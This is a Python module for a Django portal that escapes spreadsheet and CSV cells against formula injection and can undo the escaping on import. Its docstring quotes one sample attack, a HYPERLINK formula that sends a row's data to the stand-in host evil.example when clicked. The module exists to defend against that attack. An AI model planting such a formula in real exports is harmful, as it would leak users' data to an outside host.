"""The one rule for every spreadsheet and CSV file the portal writes: no cell is a formula.

Excel, WPS and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example/?leak="&B2,"详情")`` sends the row away when clicked), and
some of them drop a leading tab or carriage return before deciding so (OWASP, "CSV Injection").
A line feed is a line break like the carriage return and is treated alike: an apostrophe before
the rare text that starts with one costs nothing. Such a text is written with a leading
apostrophe, which the spreadsheet shows instead of running anything. Numbers, dates and empty
cells are left as they are: a negative amount is a number, not a formula.

Text that starts with an apostrophe gets a second one, so that :func:`read_cell` can undo the
rule exactly: a file the portal exported imports back to the same text, and a text that really
starts with ``'=`` keeps it.

Every writer goes through here: the admin's exports (:class:`FormulaSafeResource`, the base of
every import-export resource), the API's downloads and the monthly briefing (:func:`safe_cell`).
import-export's own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` is not used: it only deletes a
leading ``=`` (changing the text) and turns every number into text.
"""

from __future__ import annotations

import numbers

from django.utils.functional import Promise
from import_export import resources

#: What a spreadsheet reads as the start of a formula (OWASP's list, and the line feed).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
ESCAPE = "'"


def safe_cell(value):
    """``value`` as a cell: text that could run as a formula gets a leading apostrophe."""
    if isinstance(value, Promise):  # a lazily translated label is text
        value = str(value)
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, ESCAPE)):
        return ESCAPE + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]


def read_cell(text: str) -> str:
    """The text a cell written by :func:`safe_cell` stood for (its inverse, for imports).

    An apostrophe is dropped only where :func:`safe_cell` would have put it, so a cell that
    someone typed as ``'=1+1`` to keep it from running reads as ``=1+1``, and a text that was
    never escaped is read as it is.
    """
    if text.startswith(ESCAPE) and safe_cell(text[1:]) == text:
        return text[1:]
    return text


class FormulaSafeResource(resources.ModelResource):
    """The base of every import-export resource: each exported cell follows :func:`safe_cell`.

    Columns are rendered by widgets, and for CSV a number is rendered as text (``-5.00``): a
    column whose value on the object is a number stays as rendered, everything else, including
    ``dehydrate_…`` columns, is made safe.
    """

    def export_field(self, field, instance, **kwargs):
        cell = super().export_field(field, instance, **kwargs)
        if not isinstance(cell, str) or not cell.startswith((*FORMULA_STARTS, ESCAPE)):
            return cell
        if field.attribute and isinstance(field.get_value(instance), numbers.Number):
            return cell
        return safe_cell(cell)
